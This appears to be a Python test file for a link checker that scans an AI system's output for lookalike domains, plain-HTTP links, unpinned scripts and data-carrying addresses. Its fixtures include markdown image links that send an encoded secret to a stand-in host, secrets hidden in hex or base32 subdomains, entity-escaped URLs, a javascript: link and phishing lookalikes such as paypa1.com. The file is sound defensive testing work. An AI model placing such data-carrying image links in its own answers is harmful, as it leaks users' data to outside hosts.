"""Addresses in answers: what is found, what is honest, what a policy trusts, and that nothing makes it slow."""

import base64
import random
import time

import pytest

from conclave.safety.api import Action, Finding, Severity
from conclave.safety.output.api import Excerpt, OutputRule
from conclave.safety.output.judging import Judging
from conclave.safety.output.links import REMEDY, LinkCheck
from conclave.safety.output.plan import Plan
from conclave.safety.output.stream import Channel, judged

CHECK = LinkCheck()
LOAD = "dGhlIHNlY3JldCBwYXNzcGhyYXNlIGlzIGJsdWU"  # the secret passphrase is blue


def found(text: str, *, code: bool = False, language: str = "", check: LinkCheck = CHECK) -> list[Finding]:
    return list(check.inspect(Excerpt(text, code, language)))


def kinds(text: str, *, code: bool = False, check: LinkCheck = CHECK) -> list[str]:
    return [one.kind.removeprefix("links.") for one in found(text, code=code, check=check)]


def test_a_finding_says_where_it_is_and_what_to_do() -> None:
    [one] = found("log in at https://paypa1.com/x now")
    assert (one.kind, one.start, one.end, one.severity) == ("links.lookalike", 10, 30, Severity.HIGH)
    assert (one.evidence, one.remedy) == ("paypal.com", REMEDY["lookalike"])


def test_a_span_is_of_the_text_as_written_however_the_name_is_hidden() -> None:
    text = "see https://pay\u200bpa1.com/\uff58 now"
    [one] = found(text)
    assert text[one.start : one.end] == "https://pay\u200bpa1.com/\uff58"


def test_a_picture_that_carries_data_is_worse_than_a_link_that_does() -> None:
    picture, link = f"![x](https://stat-x.io/?d={LOAD})", f"[x](https://stat-x.io/?d={LOAD})"
    assert [one.severity for one in found(picture) + found(link)] == [Severity.HIGH, Severity.MEDIUM]


def test_a_picture_that_is_cut_out_of_a_stream_goes_with_its_brackets() -> None:
    plan = Plan.of([OutputRule(CHECK, Action.REDACT, timeout_s=60)])
    judging = Judging(plan.rules)
    channel = Channel(plan, judging)
    text = f"a ![x](https://stat-x.io/?d={LOAD}) b"
    shown = "".join(channel.feed(character) for character in text) + channel.finish()
    assert shown == "a [links removed] b"


@pytest.mark.parametrize(
    "text",
    ["https://www.stat-x.io/page", "https://stat-x.io/2024/05/a-long-title-of-a-post-about-many-things.html"],
    ids=["page", "title"],
)
def test_an_unknown_host_alone_is_no_finding(text: str) -> None:
    assert kinds(f"see {text}") == []
    assert kinds(f"![x]({text})") == []


def test_what_is_only_warned_of_is_told_and_no_more() -> None:
    [one] = found("Never open http://185.220.101.44/update: it is malware.")
    assert (one.kind, one.severity) == ("links.ip", Severity.LOW)


def test_a_warning_does_not_excuse_a_picture_that_is_fetched_at_once() -> None:
    [one] = found(f"Never open ![x](https://stat-x.io/?d={LOAD})")
    assert one.severity is Severity.HIGH


def test_a_known_host_over_plain_http_comes_with_its_better_address() -> None:
    [one] = found("clone http://github.com/psf/requests today")
    assert (one.kind, one.severity, one.instead) == (
        "links.plain_http",
        Severity.LOW,
        "https://github.com/psf/requests",
    )


def test_nothing_is_put_in_the_place_of_an_address_that_nobody_knows() -> None:
    [one] = found("get http://unknown-host.io/x")
    assert (one.kind, one.instead) == ("links.plain_http", "")


def test_hosts_that_a_policy_allows_are_trusted_but_not_in_the_clear() -> None:
    check = LinkCheck(allow=["stat-x.io"])
    assert kinds(f"![x](https://img.stat-x.io/?d={LOAD})", check=check) == []
    assert kinds("see http://stat-x.io/x", check=check) == ["plain_http"]
    assert kinds("see https://notstat-x.io@185.1.2.3/x", check=check) == ["userinfo"]


def test_own_hosts_are_never_a_finding_and_what_looks_like_them_is() -> None:
    check = LinkCheck(own_hosts=["corp.nordwind-bank.org", "52.1.2.3"])
    assert kinds("http://git.corp.nordwind-bank.org/x http://52.1.2.3/", check=check) == []
    assert kinds("https://nordwind-bamk.org/login", check=check) == ["lookalike"]


def test_a_tag_over_several_lines_is_one_tag() -> None:
    tag = '<script\n src="https://unpkg.com/a@1.2.3/a.js"\n integrity="sha384-x"\n crossorigin="anonymous"></script>'
    assert kinds(tag, code=True) == []
    assert kinds(tag.replace("integrity", "data-x"), code=True) == ["no_integrity"]


def test_a_bare_name_counts_only_where_it_pretends_to_be_another() -> None:
    assert kinds("host = api.opena1.com", code=True) == ["lookalike"]
    assert kinds("import google.cloud.storage; openai.chat.completions.create(); self.stripe.io", code=True) == []


@pytest.mark.parametrize("code", [False, True], ids=["prose", "code"])
def test_a_stream_in_any_pieces_finds_what_the_whole_does(code: bool) -> None:
    text = f"a\n![x](https://stat-x.io/?d={LOAD}) and https://paypa1.com/ (http://x.io)\n[s]: javascript:alert(1)\nend"
    text = f"```html\n{text}\n```\nafter https://bit.ly/x" if code else text
    plan = Plan.of([OutputRule(CHECK, timeout_s=60)])
    whole = judged(plan, text)[0].verdict.findings
    assert whole
    draw = random.Random(3)
    for _ in range(40):
        judging = Judging(plan.rules)
        channel = Channel(plan, judging)
        cuts = sorted(draw.sample(range(1, len(text)), 9))
        for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
            channel.feed(text[start:end])
        channel.finish()
        assert judging.verdict.findings == whole


HOSTILE = {
    "slashes": "http://" + "/" * 50_000,
    "brackets": "![" * 30_000 + "](http://a.io/",
    "dots": "a." * 50_000 + "com",
    "schemes": "http:" * 20_000,
    "addresses": "https://stat-x.io/?q=1 " * 5_000,
    "braces": "https://x.io/" + "{" * 50_000,
    "tags": "<a href=" * 10_000 + "http://x.io",
    "base64": "![x](https://x.io/" + "QUFB" * 20_000 + ")",
    "surrogates": "https://x\ud800.io/\udfff " * 2_000,
    "marks": "https://x.io/" + "a\u0301\u200b" * 20_000,
    "userinfo": "https://" + "a@" * 30_000 + "b.io",
    "labels": "https://" + "a-" * 30_000 + ".com/",
    "quotes": "href='" * 20_000,
    "entities": "](&#106;" * 10_000,
    "data": "data:text/html," * 5_000,
    "imports": "import " * 10_000 + 'from "http://x.io"',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_makes_it_slow(name: str) -> None:
    started_s = time.process_time()
    for code in (False, True):
        CHECK.inspect(Excerpt(HOSTILE[name], code))
    assert time.process_time() - started_s < 2.0


def test_random_bytes_are_no_trouble() -> None:
    draw = random.Random(5)
    for _ in range(50):
        text = "http://" + draw.randbytes(400).decode("latin-1") + "://"
        text += "".join(map(chr, draw.choices(range(0xFFFF), k=200)))
        for one in found(text):
            assert 0 <= one.start <= one.end <= len(text)


@pytest.mark.parametrize(
    "address",
    [
        f"https&#58;//stat-x.io/?d={LOAD}",
        f"https&colon;&#x2f;/stat-x.io/?d={LOAD}",
        rf"https\://stat-x\.io/?d={LOAD}",
        "https://6d7920736563726574.stat-x.io/x.png",
        f"https://{base64.b32encode(b'my secret string').decode().lower().rstrip('=')}.px.stat-x.io/x.png",
    ],
    ids=["entity", "named entities", "escapes of Markdown", "a host's part in hexadecimal", "one in base32"],
)
def test_an_address_is_read_as_markdown_shows_it_and_its_host_may_carry_data(address: str) -> None:
    text = f"![x]({address})"
    [one] = found(text)
    assert (one.kind, text[one.start : one.end]) == ("links.exfiltration", text)


@pytest.mark.parametrize(
    "host",
    ["d41d8cd98f00b204e9800998ecf8427e.stat-x.io", "internationalconferences.stat-x.io", "a1b2c3d4e5f60718.stat-x.io"],
)
def test_a_hash_or_a_long_word_in_a_host_carries_nothing(host: str) -> None:
    assert kinds(f"![x](https://{host}/x.png)") == []


def test_a_picture_out_of_anybodys_repository_is_told_and_a_script_is_high() -> None:
    picture, script = (f"https://cdn.jsdelivr.net/gh/someone77/notes@main/{name}" for name in ("a.svg", "a.js"))
    severities = [
        one.severity for text in (f"![x]({picture})", f'<script src="{script}"></script>') for one in found(text)
    ]
    assert severities == [Severity.LOW, Severity.HIGH]


@pytest.mark.parametrize(
    ("host", "kind"),
    [("api.openai.com-proxy.net", ["lookalike"]), ("com-proxy.net", []), ("my-openai.example-host.net", [])],
)
def test_a_known_domain_before_a_hyphen_is_a_lookalike(host: str, kind: list[str]) -> None:
    assert kinds(f"see https://{host}/v1") == kind
